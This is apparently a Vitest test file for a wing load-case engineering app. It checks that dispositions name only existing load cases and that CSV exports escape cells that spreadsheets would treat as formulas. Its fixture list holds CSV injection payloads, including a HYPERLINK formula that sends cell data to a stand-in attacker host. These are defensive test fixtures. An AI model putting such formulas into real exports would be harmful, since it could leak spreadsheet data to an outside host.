import { readFileSync } from "node:fs";
import { and, eq } from "drizzle-orm";
import Papa from "papaparse";
import { beforeAll, describe, expect, it } from "vitest";
import { createApiToken } from "~/auth/api-auth.server";
import { db } from "~/db/client.server";
import { caseSteps, cases, memberships, programmes, stepRevisions, users } from "~/db/schema";
import { action as importAction } from "~/routes/api/v1/case-import";
import { loader as resultsLoader } from "~/routes/api/v1/case-results";
import { action as distributionAction } from "~/routes/cases/distribution";
import { toCsv } from "~/utils/csv";
import { cookieFor, demoUser, request, run, seed, routeArgs } from "./helpers";

/*
 * Issue 9, item 11: a disposition names only a load case the envelope has, and no CSV the app
 * writes can make a spreadsheet run a formula. OWASP's "CSV Injection" page: cells that begin with
 * =, +, -, @, a tab or a carriage return are read as formulas by spreadsheet programs; prefix such
 * text with a single quote (and quote the cell) so it stays text.
 */

let caseId = "";
let engineer = "";

beforeAll(async () => {
  await seed();
  engineer = await cookieFor("engineer");
  const [c] = await db.select().from(cases).where(eq(cases.reference, "TN-WL-001"));
  caseId = c!.id;
});

const postJson = (body: unknown) => request(`/cases/${caseId}/distribution`, { method: "POST", cookie: engineer, headers: { "Content-Type": "application/json" }, body: JSON.stringify(body) });
const distribution = async () => (await db.select().from(caseSteps).where(and(eq(caseSteps.caseId, caseId), eq(caseSteps.step, "distribution"))))[0]!;

describe("dispositions", () => {
  it("are refused for a load case the envelope does not have, naming it, and nothing is written", async () => {
    const before = await distribution();
    const revisions = (await db.select().from(stepRevisions).where(eq(stepRevisions.caseId, caseId))).length;
    const body = { intent: "rows", revision: before.revision, changed: [{ id: "no-such-case", action: "justify", comment: "Judged acceptable by the stress office." }] };
    const res = await run(distributionAction, { request: postJson(body), params: { caseId } });
    expect(res.status).toBe(400);
    expect((res.body as { fieldErrors: Record<string, string[]> }).fieldErrors.dispositions?.[0]).toMatch(/"no-such-case"/);
    expect((await distribution()).revision).toBe(before.revision);
    expect(await db.select().from(stepRevisions).where(eq(stepRevisions.caseId, caseId))).toHaveLength(revisions);
  });

  it("are accepted for the envelope's own load cases", async () => {
    const before = await distribution();
    const envelope = (await db.select().from(caseSteps).where(and(eq(caseSteps.caseId, caseId), eq(caseSteps.step, "envelope"))))[0]!;
    const id = (envelope.data as { cases: { id: string }[] }).cases[0]!.id;
    const body = { intent: "rows", revision: before.revision, changed: [{ id, action: "justify", comment: "Judged acceptable by the stress office." }] };
    const res = await run(distributionAction, { request: postJson(body), params: { caseId } });
    expect(res.status).toBe(200);
    expect((await distribution()).revision).toBe(before.revision + 1);
  });
});

// Load case ids allow letters, digits and . _ - + only: enough for "-2+3" or "+A1" to be a formula.
const IDS = ["-2+3", "+1+1", "-cmd", "+A1"];
const HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "@SUM(1+1)*cmd", "=1+1"];

describe("CSV exports", () => {
  it("write load case names a spreadsheet would run as text, while numbers (negative ones too) stay numbers", async () => {
    const [u] = await db.select({ id: users.id, email: users.email, organisationId: memberships.organisationId }).from(users).innerJoin(memberships, eq(memberships.userId, users.id)).where(eq(users.email, demoUser("engineer").email));
    const { token } = await createApiToken({ userId: u!.id, organisationId: u!.organisationId, name: "csv probe", scope: "read-write", actor: { id: u!.id, email: u!.email } });
    const [programme] = await db.select().from(programmes).where(eq(programmes.organisationId, u!.organisationId)).limit(1);
    const file = JSON.parse(readFileSync("docs/examples/kf60-tern-wing.json", "utf8")) as { cases: { id: string }[] };
    file.cases = file.cases.slice(0, IDS.length).map((c, i) => ({ ...c, id: IDS[i]! }));
    const headers = { Authorization: `Bearer ${token}`, "Content-Type": "application/json" };
    const imported = await importAction((await routeArgs(request("/api/v1/cases/import", { method: "POST", headers, body: JSON.stringify({ programmeId: programme!.id, reference: "TN-CSV-1", case: file }) }), {})) as never);
    expect(imported.status).toBe(201);
    const id = ((await imported.json()) as { id: string }).id;
    const res = await resultsLoader((await routeArgs(request(`/api/v1/cases/${id}/results?format=csv`, { headers: { Authorization: `Bearer ${token}` } }), { caseId: id })) as never);
    expect(res.status).toBe(200);
    const rows = Papa.parse<string[]>((await res.text()).trim(), { newline: "\n" }).data.slice(1);
    const names = [...new Set(rows.map((r) => r[0]!))];
    expect(names.sort()).toEqual(IDS.map((h) => `'${h}`).sort());
    for (const r of rows) for (const n of r.slice(1)) expect(n).toMatch(/^-?\d/);
    expect(rows.some((r) => r.slice(1).some((n) => n.startsWith("-")))).toBe(true);
  });

  it("from the pages' tables escape the same cells and keep typed numbers as typed", () => {
    const text = toCsv(["case", "twist [deg]", "note"], [[HOSTILE[0]!, "-1.5", HOSTILE[1]!], ["cruise", -2, "plain"], ["+5", "1e-3", HOSTILE[2]!]]);
    const rows = Papa.parse<string[]>(text, { newline: "\r\n" }).data;
    expect(rows[1]).toEqual([`'${HOSTILE[0]}`, "-1.5", `'${HOSTILE[1]}`]);
    expect(rows[2]).toEqual(["cruise", "-2", "plain"]);
    expect(rows[3]).toEqual(["+5", "1e-3", `'${HOSTILE[2]}`]);
  });
});
